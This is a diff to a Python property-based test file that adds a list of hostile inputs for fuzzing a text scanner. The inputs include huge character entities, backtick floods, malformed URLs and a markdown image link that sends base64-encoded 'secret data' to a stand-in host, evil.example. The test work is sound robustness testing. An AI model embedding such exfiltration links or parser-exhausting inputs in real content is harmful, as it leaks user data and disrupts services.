@@ -73,10 +73,21 @@ def _encoded(piece: str) -> st.SearchStrategy[str]:
 
 
 ANY_CHAR = st.characters(codec=None, exclude_categories=())
+# Syntax that once made a scanner raise or run in quadratic time.
+HOSTILE = [
+    "&#" + "1" * 4400 + ";",
+    "&#" + "0" * 4400 + "60;",
+    "![x](http://[evil.example/?q=c2VjcmV0IGRhdGE=)",
+    '<img src="http://[x?d=one two three four">',
+    "[r]: http://[a?b=c d e f\n![y][r]",
+    "`" * 3000,
+    "```\n" * 300,
+]
 FRAGMENT = st.one_of(
     st.text(ANY_CHAR, max_size=30),
     st.sampled_from(PIECES).flatmap(_encoded),
     st.sampled_from([" ", "\n", "\t", "", ". ", '"', "`"]),
+    st.sampled_from(HOSTILE),
 )
 TEXT = st.lists(FRAGMENT, max_size=8).map("".join)
 # Long texts: the rule sets search windows around their anchors past a few KB, and the
